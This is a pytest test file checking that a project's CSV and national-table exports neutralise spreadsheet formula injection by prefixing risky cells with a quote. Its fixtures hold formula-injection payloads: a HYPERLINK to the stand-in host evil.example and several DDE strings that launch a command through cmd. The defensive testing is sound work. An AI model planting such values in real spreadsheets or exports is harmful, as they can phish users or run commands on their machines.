"""CSV formula injection (security review 2026-12b, S3): values that start with = + - @, a tab or a carriage return
are written to items.csv and the national tables as text cells (a leading '), and the original value is recovered
by removing that first ' (generator/model/formula.py). Read back with the csv module and with pandas."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas
import pytest

from generator.model.formula import FORMULA_START, neutralise, neutralise_row, recover, starts_formula
from generator.model.national import FOLDER
from tests.support import FOOD_COUNTY, edit, run_cli

# field in the record -> (YAML text replacing the original, the value it holds)
PAYLOADS = {
    "consult.note": '=HYPERLINK("https://evil.example/x","点此下载最新表格")',
    "complaint.note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "promised_time_limit.note": "+1+cmd|' /C calc'!A0",
    "time_limit_note": "-2+3+cmd|' /C calc'!A0",
    "onsite_reason": "\t=1+1",
    "locations": "\r=2+2",  # the column holds each location's address
    "department_name": "'已带引号的部门名称",
}


def quoted(value: str) -> str:
    return '"' + value.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") + '"'


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    from tests.support import make_project

    project = make_project(tmp_path_factory.mktemp("csv-injection") / "p")
    p = PAYLOADS
    limit = f"promised_time_limit: {{value: 15, unit: 工作日, note: {quoted(p['promised_time_limit.note'])}}}"
    edit(project, FOOD_COUNTY, "promised_time_limit: {value: 15, unit: 工作日}", f"{limit}\ntime_limit_note: {quoted(p['time_limit_note'])}")
    edit(project, FOOD_COUNTY, "onsite_reason: 需现场核验原件", f"onsite_reason: {quoted(p['onsite_reason'])}")
    edit(project, FOOD_COUNTY, "  - address: 龙亭区政务服务中心（宋城路 56 号）", f"  - address: {quoted(p['locations'])}")
    edit(project, "items/_catalog/departments.yaml", "name: 开封市龙亭区市场监督管理局", f"name: {quoted(p['department_name'])}")
    edit(project, FOOD_COUNTY, "consult:\n  phone: 0371-22331002", f"consult:\n  phone: 0371-22331002\n  note: {quoted(p['consult.note'])}")
    edit(project, FOOD_COUNTY, 'complaint:\n  phone: "12345"', f'complaint:\n  phone: "12345"\n  note: {quoted(p["complaint.note"])}')
    # what the national tables need and no record states (items/_national/settings.yaml), stated for this throwaway project
    (project / FOLDER).mkdir(parents=True, exist_ok=True)
    (project / FOLDER / "settings.yaml").write_text('data_source: "410"\nis_single_login: "1"\napp_is_single_login: "0"\n', encoding="utf-8")
    mp = pytest.MonkeyPatch()
    try:
        out = tmp_path_factory.mktemp("csv-out")
        code, output = run_cli(project, "export", "--format", "csv", "--out", str(out / "csv"), monkeypatch=mp)
        assert code == 0, output
        code, output = run_cli(project, "export", "--format", "national", "--out", str(out / "national"), monkeypatch=mp)
        assert code == 0, output
    finally:
        mp.undo()
    return out / "csv", out / "national"


def all_csv(folder: Path) -> list[Path]:
    files = sorted(folder.glob("*.csv"))
    assert files
    return files


def test_neutralise_and_recover_round_trip() -> None:
    for value in [*PAYLOADS.values(), "普通文字", "", "''", "'", *FORMULA_START]:
        cell = neutralise(value)
        assert not starts_formula(cell) and recover(cell) == value, (value, cell)
    assert neutralise("=1+1") == "'=1+1" and neutralise("办理") == "办理"


def test_a_row_is_neutralised_cell_by_cell() -> None:
    """neutralise_row (what the CSV writer calls) skips rows that need nothing with one search: the same cells as
    neutralise on each, whatever the position, with None and numbers as text."""
    values = [*PAYLOADS.values(), "普通文字", "", "x=1", "a\x00=b", *FORMULA_START, "'"]
    for value in values:
        for row in ([value], ["办理", value], [value, "办理"], ["办理", value, None, 3, -2]):
            expected = [neutralise("" if c is None else str(c)) for c in row]
            assert neutralise_row(row) == expected, row


def test_items_csv_cells_are_text_and_recoverable_csv_module(exported: tuple[Path, Path]) -> None:
    items_dir, _ = exported
    with (items_dir / "items.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    row = next(r for r in rows if r["implementation_code"] == Path(FOOD_COUNTY).stem)
    for column, value in PAYLOADS.items():
        cell = row[column]
        assert cell.startswith("'"), (column, cell)
        assert recover(cell) == value, (column, cell)
    for r in rows:
        for column, cell in r.items():
            assert not starts_formula(cell), (column, cell)


@pytest.mark.parametrize("reader", ["csv", "pandas"])
def test_no_cell_of_any_csv_is_a_formula(exported: tuple[Path, Path], reader: str) -> None:
    items_dir, national_dir = exported
    seen_quoted = 0
    for path in [*all_csv(items_dir), *all_csv(national_dir)]:
        if reader == "pandas":
            frame = pandas.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
            cells = [str(c) for c in frame.columns] + [c for row in frame.values.tolist() for c in row]
        else:
            with path.open(encoding="utf-8-sig", newline="") as fh:
                cells = [c for row in csv.reader(fh) for c in row]
        bad = [c for c in cells if starts_formula(c)]
        assert not bad, (path.name, bad[:3])
        seen_quoted += sum(1 for c in cells if c.startswith("'") and recover(c) in PAYLOADS.values())
    assert seen_quoted >= len(PAYLOADS), seen_quoted


def test_national_task_keeps_the_value_recoverable(exported: tuple[Path, Path]) -> None:
    _, national_dir = exported
    task = pandas.read_csv(national_dir / "up_task_general_basic.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    explain = [recover(c) for c in task["promise_explain"] if c.startswith("'")]
    assert explain and all(e.startswith(PAYLOADS["promised_time_limit.note"]) for e in explain), explain
